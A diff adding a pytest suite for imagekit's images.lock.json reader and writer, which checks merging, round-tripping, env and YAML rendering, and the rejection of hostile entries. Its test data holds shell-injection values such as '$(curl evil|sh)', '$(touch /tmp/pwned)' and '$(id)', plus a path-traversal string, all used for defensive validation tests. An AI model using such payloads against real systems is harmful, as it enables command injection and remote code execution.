@@ -1,0 +1,244 @@
+"""images.lock.json: merged per cell, round-tripped, rendered for other tools."""
+
+from __future__ import annotations
+
+import json
+import re
+import shlex
+import subprocess
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from imagekit.core.errors import InputError
+from imagekit.k8s.manifests import JobOptions, job_manifest
+from imagekit.report.lockfile import Lock, as_document, merge_lock, read_lock, render_lock
+from tests.conftest import run_cli
+from tests.unit.report_samples import LOCK_DIGEST
+from tests.unit.report_samples import lock_entry as entry
+from tests.unit.strategies import json_values
+
+
+def test_lock_merges_per_cell_and_round_trips(tmp_path: Path) -> None:
+    path = tmp_path / "images.lock.json"
+    merge_lock(path, {"a": entry("a")})
+    merge_lock(path, {"b": entry("b", verified=False)})
+    merge_lock(path, {"a": entry("a", digest="sha256:" + "00" * 32)})
+    lock = read_lock(path)
+    images = lock.images
+    assert sorted(images) == ["a", "b"] and images["a"].digest.endswith("00" * 32)
+    assert images["b"] == entry("b", verified=False) and images["a"].verification == entry().verification
+    assert list(tmp_path.iterdir()) == [path]  # no temporary file left behind
+    env = render_lock(lock, "env")
+    assert "IMAGEKIT_IMAGE_A=ghcr.io/acme/pytorch@sha256:" in env
+    assert yaml.safe_load(render_lock(lock, "yaml"))["images"]["b"]["verification"] is None
+    with pytest.raises(InputError):
+        render_lock(lock, "toml")
+    path.write_text("{not json")
+    with pytest.raises(InputError, match="not a readable lock file"):
+        read_lock(path)
+
+
+def test_a_lock_its_reader_would_refuse_is_never_written(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = tmp_path / "images.lock.json"
+    merge_lock(path, {"a": entry("a"), "b": entry("b")})
+    kept = path.read_bytes()
+    monkeypatch.setattr("imagekit.report.lockfile.MAX_RECORDS", 2)
+    with pytest.raises(InputError, match=r"the lock would hold 3 images; a lock holds at most 2"):
+        merge_lock(path, {"c": entry("c")})
+    assert path.read_bytes() == kept
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"repository": "ghcr.io/" + "a" * 300},  # past the reader's reference bound
+        {"cell": "c-other"},  # the entry's cell is not its key
+        {"expect": {"torch": "2.1 $(id)"}},  # an expectation the reader refuses
+    ],
+)
+def test_a_lock_imagekit_writes_is_always_one_it_reads_back(
+    tmp_path: Path, change: dict[str, object]
+) -> None:
+    path = tmp_path / "images.lock.json"
+    merge_lock(path, {"a": entry("a")})
+    kept = path.read_bytes()
+    with pytest.raises(InputError, match=r"the lock would not read back .*; the previous lock is kept"):
+        merge_lock(path, {"c": replace(entry("c"), **change)})  # type: ignore[arg-type]
+    assert path.read_bytes() == kept
+
+
+def test_provenance_round_trips_and_says_whether_the_digests_agree(tmp_path: Path) -> None:
+    import json
+
+    path = tmp_path / "images.lock.json"
+    merge_lock(path, {"a": entry("a"), "b": entry("b", verified=False)})
+    document = json.loads(path.read_text())
+    provenance = document["images"]["a"]["provenance"]
+    assert provenance["gpus"] == ["NVIDIA H200"] and provenance["driver"] == "560.35.03"
+    assert provenance["cuda_driver"] == "12.6" and provenance["checks_passed"] == 12
+    assert provenance["digest_chain"] == {
+        "staged": entry().digest, "verified": entry().digest, "promoted": entry().digest, "equal": True
+    }  # fmt: skip
+    assert document["images"]["b"]["provenance"] is None
+    assert read_lock(path).images["a"] == entry("a")
+    # A lock written before provenance (or platforms, or indexes) existed still reads.
+    del document["images"]["a"]["provenance"], document["images"]["a"]["platform"], document["indexes"]
+    path.write_text(json.dumps(document))
+    assert read_lock(path).images["a"].provenance is None
+    assert read_lock(path).images["a"].platform == "linux/amd64"
+
+
+# -- a hostile lock: its values go into shell lines and Kubernetes Jobs ------------------------------------
+
+
+def _lock(tmp_path: Path, change: Callable[[dict[str, Any]], None]) -> Path:
+    path = tmp_path / "images.lock.json"
+    document = as_document(Lock({"torch2.1.2-cu121": entry()}))
+    change(document["images"]["torch2.1.2-cu121"])
+    path.write_text(json.dumps(document))
+    return path
+
+
+def _set(key: str, value: object) -> Callable[[dict[str, Any]], None]:
+    return lambda data: data.__setitem__(key, value)
+
+
+REPOSITORY = "images.torch2.1.2-cu121.repository: "
+HOSTILE_ENTRIES: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
+    ("repository command substitution", _set("repository", "ghcr.io/$(touch /tmp/pwned)"), REPOSITORY),
+    ("repository newline forges a variable", _set("repository", "ghcr.io/a\nX=1"), "holds a newline"),
+    (
+        "repository elsewhere",
+        _set("repository", "evil.example/acme/pytorch"),
+        "is not on the entry's registry",
+    ),
+    ("digest not a digest", _set("digest", "sha256:$(id)"), ".digest: 'sha256:$(id)' holds '$('"),
+    ("check script substitution", _set("check_script", "$(curl evil|sh)"), ".check_script: "),
+    (
+        "check script walks up",
+        _set("check_script", "/opt/../../bin/sh"),
+        "is not an absolute path in the image",
+    ),
+    ("expectation with a space", _set("expect", {"torch": "2.1.2 --require-gpu"}), ".expect.torch: "),
+    ("unknown expectation", _set("expect", {"entrypoint": "sh"}), ".expect.entrypoint: "),
+    ("registry port", _set("registry", "ghcr.io:99999"), ".registry: 'ghcr.io:99999': port 99999 is past"),
+    ("policy unknown", _set("policy", "yolo"), ".policy: Input should be 'gpu-validated', 'checked' or"),
+    ("tags a string", _set("tags", "latest"), ".tags: Input should be a valid array"),
+    ("tag too long", _set("tags", ["t" * 200]), ".tags[0]: "),
+    ("cell of another entry", _set("cell", "other"), ".cell: 'other' is another cell's id"),
+    ("published_at a number", _set("published_at", 1700000000), ".published_at: Input should be a valid"),
+    ("negative count", lambda d: d["verification"]["checks"].__setitem__("passed", -1), "checks.passed: "),
+    (
+        "a login as a metric's name",
+        lambda d: d["verification"]["checks"].__setitem__("metrics", {"u:s3cret@h": 1}),
+        "***@h: String should match pattern",  # the login masked, with the field path before it
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "change", "problem"), HOSTILE_ENTRIES, ids=[c[0] for c in HOSTILE_ENTRIES])
+def test_a_wrong_field_is_one_line_naming_file_and_field(
+    tmp_path: Path, case: str, change: Callable[[dict[str, Any]], None], problem: str
+) -> None:
+    path = _lock(tmp_path, change)
+    with pytest.raises(InputError) as caught:
+        read_lock(path)
+    assert caught.value.message.startswith(f"{path}: "), caught.value.message
+    assert problem in caught.value.message and "\n" not in caught.value.message
+    assert "s3cret" not in caught.value.message
+
+
+def test_a_hostile_lock_makes_images_and_k8s_exit_2_and_run_nothing(tmp_path: Path) -> None:
+    marker = tmp_path / "pwned"
+    path = _lock(tmp_path, _set("repository", f"ghcr.io/x$(touch {marker})"))
+    for args in (("images", "--format", "env", "--lock", str(path)), ("images", "--lock", str(path))):
+        result = run_cli(*args)
+        assert result.exit_code == 2 and result.stdout == "", result
+        assert result.stderr.count("\n") == 1 and "images.torch2.1.2-cu121.repository" in result.stderr
+    assert not marker.exists()
+
+
+def test_env_lines_are_safe_to_eval(tmp_path: Path) -> None:
+    """What the README tells users to do: eval "$(imagekit images --format env)"."""
+    path = tmp_path / "images.lock.json"
+    merge_lock(path, {"a.b-1": entry("a.b-1"), "c": entry("c", digest="sha256:" + "0" * 64)})
+    result = run_cli("images", "--format", "env", "--lock", str(path))
+    assert result.exit_code == 0, result.stderr
+    shell = subprocess.run(
+        [
+            "bash",
+            "-c",
+            'eval "$1" && for v in ${!IMAGEKIT_IMAGE_@}; do echo "$v=${!v}"; done',
+            "-",
+            result.stdout,
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
+        timeout=30,
+        env={"PATH": "/usr/bin:/bin"},
+    )
+    assert shell.stdout.splitlines() == [
+        f"IMAGEKIT_IMAGE_A_B_1=ghcr.io/acme/pytorch@{LOCK_DIGEST}",
+        f"IMAGEKIT_IMAGE_C=ghcr.io/acme/pytorch@sha256:{'0' * 64}",
+    ]
+
+
+def test_two_cells_of_one_variable_are_refused_in_env_lines() -> None:
+    with pytest.raises(InputError, match=r"cell a-b and cell a\.b are one variable \(IMAGEKIT_IMAGE_A_B\)"):
+        render_lock(Lock({"a-b": entry("a-b"), "a.b": entry("a.b")}), "env")
+
+
+def test_images_only_matching_nothing_is_exit_2(tmp_path: Path) -> None:
+    path = tmp_path / "images.lock.json"
+    merge_lock(path, {"a": entry("a")})
+    result = run_cli("images", "--only", "nothing*", "--lock", str(path))
+    assert result.exit_code == 2 and result.stdout == ""
+    assert (
+        result.stderr == f"imagekit: error: --only nothing* matches no cell of {path}; see `imagekit plan`\n"
+    )
+
+
+JSON = json_values()
+FIELDS = sorted(entry().as_json())
+
+
+@settings(max_examples=400, deadline=2000, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
+@given(field=st.sampled_from(FIELDS), value=JSON)
+def test_any_value_in_any_field_reads_or_is_one_input_error(
+    tmp_path_factory: pytest.TempPathFactory, field: str, value: object
+) -> None:
+    path = _lock(tmp_path_factory.mktemp("lock"), _set(field, value))
+    try:
+        lock = read_lock(path)
+    except InputError as exc:
+        assert exc.message.startswith(f"{path}: ") and "\n" not in exc.message
+    else:
+        # accepted values are what the types promise: the shell and the Job stay safe
+        for line in render_lock(lock, "env").splitlines():
+            name, _, value_text = line.partition("=")
+            assert re.fullmatch(r"IMAGEKIT_IMAGE_[A-Z0-9_]+", name)
+            assert shlex.split(value_text) == [lock.images["torch2.1.2-cu121"].reference]
+        job_manifest(lock.images["torch2.1.2-cu121"], JobOptions())
+
+
+@settings(max_examples=200, deadline=2000, derandomize=True)
+@given(JSON)
+def test_any_json_document_reads_or_is_one_input_error(
+    tmp_path_factory: pytest.TempPathFactory, data: object
+) -> None:
+    path = tmp_path_factory.mktemp("lock") / "images.lock.json"
+    path.write_text(json.dumps(data))
+    try:
+        read_lock(path)
+    except InputError as exc:
+        assert exc.message.startswith(f"{path}: ")
